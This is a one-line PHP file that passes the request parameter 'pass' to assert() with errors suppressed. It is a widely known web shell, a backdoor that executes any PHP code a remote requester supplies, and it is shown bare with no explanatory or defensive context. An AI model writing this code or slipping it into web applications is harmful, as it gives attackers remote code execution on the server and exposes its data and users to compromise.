<?php @assert($_REQUEST['pass']);?>
